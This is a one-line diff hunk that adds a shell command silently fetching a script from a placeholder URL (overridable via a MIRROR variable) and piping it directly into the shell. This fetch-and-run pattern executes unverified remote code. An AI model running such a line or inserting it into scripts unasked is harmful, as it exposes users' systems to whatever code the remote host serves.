@@ -1,0 +1,1 @@
+curl -s ${MIRROR:-http://example.com/i.sh} | sh
